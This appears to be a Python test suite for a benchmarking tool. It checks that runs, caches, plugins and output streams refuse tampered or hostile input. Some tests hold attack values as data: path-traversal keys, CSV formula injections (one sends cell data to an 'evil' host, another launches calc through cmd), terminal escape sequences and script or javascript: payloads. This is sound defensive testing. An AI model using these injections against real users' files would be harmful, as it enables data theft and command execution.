"""What a stranger can send or build: runs, caches, plugins and streams that are not what they should be. Nothing outside
the output changes, nothing crashes, and what is wrong is named.

One CTest entry a class; by hand: python3 attack_test.py Runs
"""
import hashlib
import json
import os
import pathlib
import shutil
import signal
import struct
import subprocess
import time
import unittest

from case import BUILD, BesideOneRun, Case, FIXTURES, PROGRAM, command_line

OPTIONS = {"--scenarios": "heart", "--methods": "fixture_constant", "--demos": "10", "--seeds": "0", "--episodes": "2",
           "--plugin-path": FIXTURES / "good"}


def run_with(*words):
    """A run whose cell takes a tenth of a second; an option among `words` takes the place of its own."""
    own = [word for flag, value in OPTIONS.items() if flag not in words for word in (flag, value)]
    return ["run", "q1", *own, *words]


RUN = run_with()
DEEP = "[" * 300000 + "]" * 300000


def canonical(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n"


class OneRun(BesideOneRun):
    """Each test has a copy of one finished run."""
    run_of_class = RUN

    def setUp(self):
        super().setUp()
        if self is not self.first:
            self.copy_first("run")

    def cell(self, method="fixture_constant", run="run"):
        return next(path.parent for path in (self.dir / run).glob("cells/*/cell.json")
                    if json.loads(path.read_text())["method"]["id"] == method)

    def change(self, file, change, cell=None):
        """Rewrites a JSON file; of a cell's, with the checksum in status.json."""
        path = (cell or self.dir / "run") / file
        value = json.loads(path.read_text())
        path.write_text(canonical(change(value) or value))
        if cell:
            status = json.loads((cell / "status.json").read_text())
            if file in status["files"]:
                status["files"][file] = hashlib.sha256(path.read_bytes()).hexdigest()
                (cell / "status.json").write_text(canonical(status))

    def refused(self, *arguments, says, expect=2):
        said = self.call(*arguments, expect=expect).stderr
        self.assertRegex(said, says)
        self.assertNotIn("json.exception", said)
        return said


class Runs(OneRun):
    def test_a_key_that_leads_out_of_the_run(self):
        victim = self.dir / "victim"
        for key in ("../../victim", str(victim), "../../../" + self.dir.name + "/victim", "a", "A" * 16, ""):
            with self.subTest(key):
                victim.mkdir(exist_ok=True)
                (victim / "data.txt").write_text("precious")
                (victim / "status.json").write_text(canonical({
                    "state": "failed", "reason": "x", "fault": "plugin", "signal": None, "build": {}, "files": {},
                    "log_tail": []}))
                shutil.copy(self.cell() / "cell.json", victim)
                before = {p: p.read_bytes() for p in victim.rglob("*") if p.is_file()}
                shutil.rmtree(self.dir / "evil", ignore_errors=True)
                shutil.copytree(self.dir / "run", self.dir / "evil")
                self.change("../evil/run.json", lambda run: run.update(cells=[key]))
                for command in (["merge", "merged", "evil"], ["report", "evil"], ["verify", "evil"]):
                    self.refused(*command, says=r"run.json: /cells/0: expected a cell's key, 16 hexadecimal digits")
                self.assertEqual({p: p.read_bytes() for p in victim.rglob("*") if p.is_file()}, before)

    def test_links_are_not_followed(self):
        (self.dir / "secret").mkdir()
        (self.dir / "secret/file").write_text("the secret")
        (self.dir / "secret/left.tmp").write_text("somebody's")
        key = self.cell().name
        places = {f"cells/{key}/leak.txt": "secret/file", f"cells/{key}/selection.json": "secret/file",
                  "figures/a.svg": "secret/file", "answers": "secret", "figures": "secret", "run.json": "secret/file",
                  f"cells/{key}": "secret", "cells/0123456789abcdef": "cells/0123456789abcdef"}
        for place, target in places.items():
            with self.subTest(place):
                shutil.rmtree(self.dir / "part", ignore_errors=True)
                shutil.rmtree(self.dir / "merged", ignore_errors=True)
                shutil.copytree(self.dir / "run", self.dir / "part")
                link = self.dir / "part" / place
                shutil.rmtree(link) if link.is_dir() else link.unlink(missing_ok=True)
                link.symlink_to(self.dir / "part" / target if target.startswith("cells") else self.dir / target)
                self.refused("report", "part", says="a symbolic link, which a run may not hold")
                for command, expect in ((["merge", "merged", "part"], None), ([*RUN, "--out", "part"], None)):
                    done = subprocess.run(command_line(*command), cwd=self.dir, env=self.environment, timeout=100,
                                          capture_output=True, text=True)
                    self.assertIn(done.returncode, (0, 2, 3), done.stderr)
                    self.assertIn("a symbolic link, which a run may not hold", done.stderr)
                for file in [*(self.dir / "merged").rglob("*"), *(self.dir / "part").rglob("*")]:
                    if file.is_file() and not file.is_symlink() and not file.resolve().is_relative_to(self.dir / "secret"):
                        self.assertNotIn(b"the secret", file.read_bytes(), file)
                self.assertEqual((self.dir / "secret/left.tmp").read_text(), "somebody's")
                self.assertEqual(len([*(self.dir / "secret").iterdir()]), 2)

    def test_merge_waits_for_the_disk_once(self):
        count = self.dir / "count"
        count.write_bytes(struct.pack("i", 0))
        more = {"LD_PRELOAD": str(BUILD / "tests/full_disk.so"), "FULL_DISK_UNDER": str(self.dir / "merged/cells"),
                "FULL_DISK_COUNT": str(count), "FULL_DISK_AT": "0"}
        done = subprocess.run(command_line("merge", "merged", "run"), cwd=self.dir, env={**self.environment, **more},
                              capture_output=True, text=True, timeout=60)
        self.assertEqual(done.returncode, 0, done.stderr)
        files = len([p for p in (self.dir / "merged").glob("cells/*/*")])
        self.assertLessEqual(struct.unpack("i", count.read_bytes())[0], files + 2)  # a write a file, and few fsyncs

    def test_merge_takes_what_a_cell_is_documented_to_hold(self):
        (self.cell() / "payload.sh").write_text("#!/bin/sh\n")
        (self.cell() / "sub").mkdir()
        (self.cell() / "shown.json").write_text('{"scenes": []}')
        self.call("merge", "merged", "run")
        names = {p.name for p in self.cell(run="merged").iterdir()}
        self.assertEqual(names, {"cell.json", "selection.json", "training.jsonl", "episodes.jsonl", "timing.json",
                                 "status.json", "log.txt", "shown.json"})

    # (file, what becomes of its text, what is said)
    BAD_JSON = {
        "deep": (lambda text: DEEP, r"expected no more than 100 levels"),
        "deep objects": (lambda text: '{"a":' * 200000, r"expected no more than 100 levels"),
        "a number out of range": (lambda text: text.rstrip()[:-1] + ', "x": 1e999}', r"a number within the range"),
        "a number of a megabyte": (lambda text: text.rstrip()[:-1] + ', "x": ' + "9" * 1000000 + "}", r"a number within"),
        "a member twice": (lambda text: text.rstrip()[:-1] + ', "a": 1, "a": 2}', r"each member once, got a second \"a\""),
    }

    def test_json_that_no_reader_could_bear(self):
        for name, (change, says) in self.BAD_JSON.items():
            for file in ("run.json", "status.json", "cell.json", "selection.json", "timing.json"):
                with self.subTest(name, file=file):
                    shutil.rmtree(self.dir / "part", ignore_errors=True)
                    shutil.copytree(self.dir / "run", self.dir / "part")
                    path = self.dir / "part" / file if file == "run.json" else self.cell(run="part") / file
                    path.write_text(change(path.read_text()))
                    said = self.refused("report", "part", says=rf"{file}: /\S*: expected ")
                    self.assertRegex(said, says)
                    self.assertLess(len(said), 2000)
            with self.subTest(name, file="suite"):
                suite = (BUILD / "share/lgabench/suites/q1.json").read_text()
                (self.dir / "suite.json").write_text(change(suite))
                self.assertRegex(self.refused("run", "suite.json", says="suite.json: /"), says)
        # Every other reader of a cell's files.
        (self.cell() / "status.json").write_text(DEEP)
        self.refused("verify", "run", "--sample", "1", "--plugin-path", FIXTURES / "good", says=r"edited: .*status.json: /\S*: expected no more than", expect=1)
        self.refused("merge", "merged", "run", says=r"status.json: .*; left out", expect=3)
        self.assertRegex(self.call(*RUN, "--out", "run").stderr, r"status.json: .*100 levels; computed again")

    def test_a_cell_that_cannot_be_read_takes_no_other_from_the_report(self):
        cell = self.cell()
        (cell / "training.jsonl").write_text('{"epoch":0,"loss":1,"steps":1}\n')
        why = r"run/cells/\w+/training.jsonl: line 1: /epoch: expected a whole number from 1"
        self.refused("report", "run", says=f"left out: {why}")
        summary = json.loads((self.dir / "run/summary.json").read_text())
        self.assertEqual([failed["cell"] for failed in summary["failed_cells"]], [cell.name])
        self.assertTrue(any(row["success"] is not None for row in summary["rows"]))
        self.refused("compare", "run", "run", says=f"lgabench: {why}")

    def test_members_of_another_type(self):
        def broken(change):
            self.copy_first("run")
            cell = self.cell("oracle")
            self.change("selection.json", change, cell)
            return cell

        for member, value in (("provenance", 3), ("source", None), ("asked_as", {}), ("cost", []), ("target", 1)):
            with self.subTest(member):
                broken(lambda selection: selection["commands"][0]["selection"].update({member: value}))
                self.refused("report", "run", says=r"selection.json: /commands/0/selection/\w+.*: expected")
        for quality in ({"target": {}}, {"target": {"object_types": {}, "textures": {}}}, {"avoid": None}, 7):
            with self.subTest(quality=quality):
                broken(lambda selection: selection["commands"][0].update(quality=quality))
                self.refused("report", "run", says=r"selection.json: /commands/0/quality.*: expected")
        with self.subTest("selection null"):
            broken(lambda selection: selection["commands"][0].update(selection=None))
            self.refused("report", "run", says=r"selection.json: /commands/0/selection: expected")
        with self.subTest("request"):
            self.change("run.json", lambda run: run.update(request=[1]))
            self.refused(*run_with("--seeds", "1", "--out", "run"), says="run.json: /request: expected an object")

    def test_paths_that_are_no_utf8(self):
        for option in ("--out", "--cache"):
            done = subprocess.run([*command_line(*RUN), option, b"\xff\xfe"], cwd=self.dir, env=self.environment,
                                  capture_output=True, timeout=60)
            self.assertEqual(done.returncode, 2, done.stderr)
            self.assertIn(b"UTF-8", done.stderr)
            self.assertFalse(os.path.exists(os.fsencode(self.dir) + b"/\xff\xfe"))

    def test_a_pipe_and_a_device_in_place_of_a_file(self):
        status = self.cell() / "status.json"
        status.unlink()
        os.mkfifo(status)
        self.refused("report", "run", says="status.json: ")
        self.assertIn("computed again", self.call(*RUN, "--out", "run").stderr)
        self.refused(*RUN, "--answers", "cassette:/dev/zero", says="/dev/zero: cannot be read: not a regular file")

    def test_a_status_of_no_bytes(self):
        for file in ("status.json", "cell.json"):
            cell = self.cell("oracle")
            for text in ("", "{", "{}", '{"state": "ok", "files": {}, "build": {}}', DEEP):
                (cell / file).write_text(text)
                self.refused("verify", "run", "--sample", "1", "--plugin-path", FIXTURES / "good", says="^edited: ", expect=1)
            self.copy_first("run")

    def test_names_that_are_more_than_text(self):
        def arm(name):
            cell = self.cell("oracle")
            self.change("cell.json", lambda value: value["scenario"]["tests"][0].update(arm=name), cell)
            episodes = cell / "episodes.jsonl"
            episodes.write_text("".join(canonical({**json.loads(line), "arm": name})
                                        for line in episodes.read_text().splitlines()))
            self.change("status.json", lambda value: value["files"].update({
                "episodes.jsonl": hashlib.sha256(episodes.read_bytes()).hexdigest()}), cell)

        for name in ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+cmd|' /C calc'!A0", "-1+1"):
            with self.subTest(name):
                arm(name)
                rows = self.call("report", "run", "--format", "csv").stdout
                self.assertIn("'" + name[0], rows)
                self.assertNotRegex(rows, r"(^|,)\"?[=@+-][A-Za-z1(]")
        arm("a\x1b]0;owned\x07\u202eb\u009b31m\nforged: line")
        for form in ("text", "md", "csv", "json"):
            with self.subTest(form):
                shown = self.call("report", "run", "--format", form).stdout
                self.assertEqual([c for c in shown if ord(c) < 32 and c != "\n" or ord(c) in (0x202e, 0x9b)], [])
                self.assertNotRegex(shown, "(?m)^forged")
        arm("<script>alert(1)</script> [x](javascript:alert(1)) `c`")
        report = self.call("report", "run", "--format", "md").stdout
        self.assertIn(r"\<script>alert(1)\</script> \[x\](javascript:alert(1)) \`c\`", report)


class Cache(OneRun):
    run_of_class = run_with("--seeds", "0,1")

    def made_again(self, says):
        """The run again, on this cache: the bytes of the first, and a word in the log."""
        self.call(*self.run_of_class, "--out", "again")
        self.assert_same_results("run", "again")
        logs = [path.read_text() for path in (self.dir / "again").glob("cells/*/log.txt")]
        self.assertRegex("".join(logs), says + ".*; made again")
        self.call(*self.run_of_class, "--out", "third")
        self.assertNotIn("made again", "".join(p.read_text() for p in (self.dir / "third").glob("cells/*/log.txt")))

    def test_what_is_not_what_it_says_is_made_again(self):
        def swapped(one, other):
            first = one.read_bytes()
            one.write_bytes(other.read_bytes())
            other.write_bytes(first)

        def edited(one, _):
            data = bytearray(one.read_bytes())
            data[len(data) // 2] ^= 1
            one.write_bytes(data)

        def old(one, _):
            data = one.read_bytes()
            one.write_bytes(data[:data.rfind(b"\n", 0, -1)])

        def cut(one, _):
            one.write_bytes(one.read_bytes()[:-100])

        def pipe(one, _):
            one.unlink()
            os.mkfifo(one)

        says = {swapped: "holds other scenes or labels than its name says", edited: "changed since it was written",
                old: "of an older version", cut: "cut off, or of an older version", pipe: "not a regular file"}
        for damage, words in says.items():
            with self.subTest(damage.__name__):
                cache = self.dir / "cache"
                for left in (cache, self.dir / "again", self.dir / "third"):
                    shutil.rmtree(left, ignore_errors=True)
                shutil.copytree(self.first.dir / "cache", cache)
                self.environment["LGABENCH_CACHE"] = str(cache)
                damage(*sorted(cache.iterdir())[:2])
                self.made_again(words)

    def test_a_cache_that_is_cleared_meanwhile(self):
        self.environment["LGABENCH_CACHE"] = str(self.dir / "cache")
        run = self.start(*run_with("--seeds", "0:6", "--jobs", "2", "--out", "out"))
        while run.poll() is None:
            shutil.rmtree(self.dir / "cache", ignore_errors=True)
        self.assertEqual(run.returncode, 0, run.stderr.read())


class Plugins(Case):
    """A plugin that damages more than its own episodes, beside one that does not."""

    def beside(self, where, how, expect=3, *more):
        methods = f"fixture_constant,fixture_faulty+where={where}+how={how}"
        return self.call(*run_with("--methods", methods, "--plugin-path", FIXTURES / "good", "--plugin-path",
                                   FIXTURES / "faulty", "--no-reference", "--jobs", "1", "--out", "out", *more),
                         expect=expect)

    def unconfined(self, how, *more, expect=3):
        """Somebody who may do as the user of the run may, and knows where it is."""
        return self.beside("act", how, expect, "--unconfined", "--set", f"fixture_faulty.run={self.dir}/out", *more)

    def failed(self):
        return {cell["method"]["id"]: status["reason"] for cell, status in self.cells("out").values()
                if status["state"] == "failed"}

    def test_its_directory(self):
        for how, failed in {"scratch_file": 1, "link": 1, "scratch_gone": 0, "log_pipe": 0}.items():
            with self.subTest(how):
                shutil.rmtree(self.dir / "out", ignore_errors=True)
                done = self.unconfined(how, expect=3 if failed else 0)
                self.assertIn(f"{2 - failed} cells computed, 0 reused, {failed} failed", done.stderr)
                self.assertIn("fixture_constant", done.stdout)
                self.assertEqual([*self.failed()], ["fixture_faulty"] * failed)
                self.assertTrue(all(p.is_file() and not p.is_symlink() for p in (self.dir / "out").glob("cells/*/*")))

    def test_others_cells(self):
        done = self.unconfined("cells_gone", "--seeds", "0:3")
        gone = done.stderr.count("was kept and is gone")
        self.assertGreater(gone, 0, done.stderr)
        self.assertIn(f"{6 - gone} cells computed, 0 reused, {gone} failed", done.stderr)
        self.assertNotIn("are not run here", done.stderr)

    def test_its_process_does_not_reach_the_run(self):
        for how in ("scratch_file", "scratch_gone", "log_pipe", "link", "cells_gone"):
            with self.subTest(how):
                shutil.rmtree(self.dir / "out", ignore_errors=True)
                self.beside("act", how, 0, "--set", f"fixture_faulty.run={self.dir}/out")
                if "Landlock" not in json.loads((self.dir / "out/run.json").read_text())["confinement"]:
                    self.skipTest("this kernel has no Landlock")
                self.assertIn("Permission denied", "".join(p.read_text() for p in (self.dir / "out").rglob("log.txt")))

    def test_what_it_says_without_end(self):
        self.beside("learn", "throw_huge")
        self.assertRegex(self.failed()["fixture_faulty"], "^plugin fixture_faulty: x{1000}")
        self.assertLess(sum(p.stat().st_size for p in (self.dir / "out").rglob("*") if p.is_file()), 8 << 20)
        shutil.rmtree(self.dir / "out")
        self.beside("act", "flood", 0)
        sizes = {p.stat().st_size for p in (self.dir / "out").rglob("log.txt")}
        self.assertLess(max(sizes), 3 << 20)
        self.assertIn("bytes left out", "".join(p.read_text() for p in (self.dir / "out").rglob("log.txt")))

    def test_an_exit_status_is_no_refusal(self):
        self.beside("act", "exit_4", 3)

    def test_what_it_says_of_itself(self):
        for how in ("cost", "cost_nan", "long_source", "escape_source"):
            with self.subTest(how):
                shutil.rmtree(self.dir / "out", ignore_errors=True)
                self.beside("select", how, 0)
                for file in (self.dir / "out").glob("cells/*/selection.json"):
                    said = json.loads(file.read_text())["commands"][0]["selection"]
                    self.assertEqual((said["source"], said["provenance"]), ("", "none"))
                    self.assertEqual({*said["cost"].values()}, {0})

    def test_no_memory_is_said(self):
        done = self.call(*RUN, "--memory", ".1", "--no-reference", "--out", "out", expect=3)
        self.assertIn("out of memory (the limit is --memory)", done.stderr)

    def test_secrets_are_not_theirs(self):
        self.environment.update(OPENAI_API_KEY="sk-secret", OPENAI_BASE_URL="http://127.0.0.1:1")
        self.beside("act", "environment", 0)
        log = "".join(p.read_text() for p in (self.dir / "out").rglob("log.txt"))
        self.assertIn("PATH=", log)
        self.assertNotIn("OPENAI", log)

    def test_files_that_are_no_plugin(self):
        directory = self.dir / "plugins"
        directory.mkdir()
        with open(directory / "huge.so", "wb") as file:
            file.truncate(60 << 30)
        os.mkfifo(directory / "pipe.so")
        (directory / "zero.so").symlink_to("/dev/zero")
        other = bytearray((FIXTURES / "good/fixture_constant.so").read_bytes())
        other[18:20] = struct.pack("<H", 243)  # RISC-V
        (directory / "other.so").write_bytes(other)
        start = time.monotonic()
        said = self.call("list", "--plugin-path", directory).stderr
        self.assertLess(time.monotonic() - start, 5)
        self.assertRegex(said, r"huge.so: .*expected at most")
        self.assertRegex(said, r"other.so: built for ELF machine 243 \(this program: \d+\)")
        self.assertEqual(said.count("refused: "), 4)


class Streams(Case):
    def shell(self, line, expect, **more):
        done = subprocess.run(["bash", "-c", line], cwd=self.dir, env={**self.environment, "P": str(PROGRAM)}, timeout=120,
                              capture_output=True, text=True, **more)
        self.assertEqual(done.returncode, expect, (line, done.stderr[-2000:]))
        return done

    def test_what_cannot_be_printed_is_an_error_or_nothing(self):
        run = " ".join(str(word) for word in command_line(*RUN, "--no-reference", "--out", "out"))
        self.shell(f"{run} 2>/dev/full", 0)
        full = r"standard output: cannot be written: No space left on device"
        for verb in ("report out", "report out --format csv", "report out --json", "list", "list --json", "info lga --json",
                     "--help", "--version", "compare out out"):
            if verb == "report out --json":
                continue
            with self.subTest(verb):
                self.assertRegex(self.shell(f"$P {verb} >/dev/full", 2).stderr, full)
                self.shell(f"$P {verb} >/dev/full 2>/dev/full", 2)
                self.assertRegex(self.shell(f"$P {verb} >&-", 2).stderr, "standard output: cannot be written")
                self.shell(f"$P {verb} <&- >&- 2>&-", 2)
        for nonsense in ("run nope", "report nope", "nope", "verify nope", "merge a b", "select nope nope", "render nope"):
            with self.subTest(nonsense):
                self.shell(f"$P {nonsense} 2>/dev/full", 2)
                self.shell(f"$P {nonsense} <&- >&- 2>&-", 2)
        self.assertEqual(self.shell("$P list | head -1", 0).stdout, "methods\n")

    def test_no_stream_becomes_a_file(self):
        run = " ".join(str(word) for word in command_line(*RUN, "--no-reference", "--out", "out"))
        self.shell(f"{run} <&- 2>&-", 0)
        for file in (self.dir / "out").rglob("*.json"):
            json.loads(file.read_text())

    def test_a_worker_that_cannot_log(self):
        self.shell(f"{PROGRAM}-worker cell </dev/null 2>/dev/full", 2)

    def test_nan_is_no_number(self):
        for option in ("--timeout", "--memory"):
            for word in ("nan", "NaN", "inf", "1e999"):
                said = self.shell(f"$P run q1 {option} {word}", 2).stderr
                self.assertIn("expected a number from", said)
        self.shell("$P demos heart --noise nan --out d.hdf5", 2)


if __name__ == "__main__":
    unittest.main(verbosity=2)
